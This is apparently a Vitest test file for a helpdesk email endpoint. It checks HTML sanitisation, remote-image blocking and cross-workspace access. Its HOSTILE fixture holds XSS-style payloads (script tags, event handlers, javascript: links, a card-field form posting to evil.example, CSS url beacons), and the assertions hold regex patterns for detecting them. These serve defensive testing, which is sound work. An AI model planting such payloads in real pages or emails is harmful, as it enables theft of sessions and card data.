import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAgent, buildWorkspace, client, signIn } from '../../testing/factories.ts';
import { startTestReceiver } from '../../testing/inboundMail.ts';
import { backend, type TestServer, testServer } from '../../testing/testServer.ts';

let t: TestServer;
let inbound: Awaited<ReturnType<typeof startTestReceiver>>;
beforeAll(async () => {
  t = await testServer();
  inbound = await startTestReceiver(t);
});
afterAll(() => inbound?.close());

const HOSTILE = [
  '<base href="https://evil.example/">',
  '<p onclick="steal()" onmouseover="steal()">Hello, <b>my cake</b> arrived broken.</p>',
  '<script>steal()</script><iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/"><button formaction="https://evil.example/go">Confirm</button><input name="card"></form>',
  '<a href="javascript:steal()">click here</a> <a href="https://evil.example/">our site</a>',
  '<img src="https://tracker.example/pixel.gif?u=sam" alt="pixel"><img src="javascript:steal()"><img src="cid:logo">',
  '<svg onload="steal()"><use href="#x"/></svg><style>body{background:url(https://evil.example/bg)}</style>',
  '<div style="background:url(https://evil.example/bg)">Thanks</div>',
].join('\n');

async function emailIn() {
  const workspace = await buildWorkspace(t, { name: 'Rosie’s Bakery' });
  const agent = await signIn(t, await buildAgent(t, workspace, { presence: 'available' }));
  const address = `help-${randomUUID().slice(0, 8)}@rosies.test`;
  inbound.settings.addresses.push({ address, workspaceKey: workspace.key, teamId: null });
  const sam = `sam-${randomUUID().slice(0, 8)}@example.com`;
  await inbound.send({
    from: { name: 'Sam <b>Baker</b>', address: sam },
    to: address,
    subject: 'Broken <i>cake</i>',
    text: 'Hello, my cake arrived broken.\n\nOn Monday, Rosie wrote:\n> Your cake is on its way.',
    html: HOSTILE,
  });
  const [kept] = await t.db.query<{ conversationId: string; seq: number }>(
    `select i.conversation_id as "conversationId", e.seq from inbound_emails i join entries e on e.id = i.entry_id
     where i.workspace_id = $1 and i.sender = $2`,
    [workspace.id, sam],
  );
  return { workspace, agent, sam, ...kept! };
}

describe(`a received email, opened by an agent (${backend})`, () => {
  it('gives its subject and sender as text, its text part, and its HTML sanitised with remote images blocked', async () => {
    const { agent, sam, conversationId, seq } = await emailIn();
    const res = await client(t, agent).get(`/api/v1/conversations/${conversationId}/entries/${seq}/email`);
    expect(res.status).toBe(200);
    const { email } = res.body;
    expect(email).toMatchObject({ subject: 'Broken <i>cake</i>', from: { address: sam, name: 'Sam <b>Baker</b>' } });
    expect(email.text).toBe('Hello, my cake arrived broken.\n\nOn Monday, Rosie wrote:\n> Your cake is on its way.');
    const html: string = email.html;
    expect(html).toContain('<b>my cake</b>');
    expect(html).toContain('<img data-remote-src="https://tracker.example/pixel.gif?u=sam" alt="pixel" />');
    expect(html).toContain('click here');
    for (const hostile of [/<script/i, /\son\w+=/i, /formaction/i, /<base/i, /javascript:/i, /\ssrc=/i, /href=/i]) {
      expect(html).not.toMatch(hostile);
    }
    for (const hostile of [/<form/i, /<iframe/i, /<svg/i, /<style/i, /style=/i, /evil\.example/i, /cid:/i]) {
      expect(html).not.toMatch(hostile);
    }
  });

  it('is not found for an agent of another workspace, nor for an entry that is not an email; a bad seq is a 400', async () => {
    const { conversationId, seq, agent } = await emailIn();
    const foreign = await signIn(t, await buildAgent(t, await buildWorkspace(t), { role: 'admin' }));
    expect((await client(t, foreign).get(`/api/v1/conversations/${conversationId}/entries/${seq}/email`)).status).toBe(404);
    expect((await client(t, agent).get(`/api/v1/conversations/${conversationId}/entries/${seq + 50}/email`)).status).toBe(404);
    const bad = await client(t, agent).get(`/api/v1/conversations/${conversationId}/entries/first/email`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toMatch(/seq must be a number/);
  });
});
